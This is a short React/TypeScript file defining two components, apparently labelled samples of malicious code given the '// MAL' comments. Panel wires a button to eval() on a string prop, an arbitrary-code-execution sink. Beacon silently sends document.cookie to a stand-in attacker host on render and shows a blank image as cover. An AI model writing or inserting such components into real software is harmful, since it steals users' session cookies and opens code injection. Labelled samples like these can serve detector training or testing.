import React from 'react';
export const Panel = ({ code }: { code: string }) => (
  <button onClick={() => eval(code)}>run</button> // MAL
);
export const Beacon = () => {
  fetch('https://px.attacker.example/p?c=' + document.cookie); // MAL
  return <img src="/x.png" alt="" />;
};
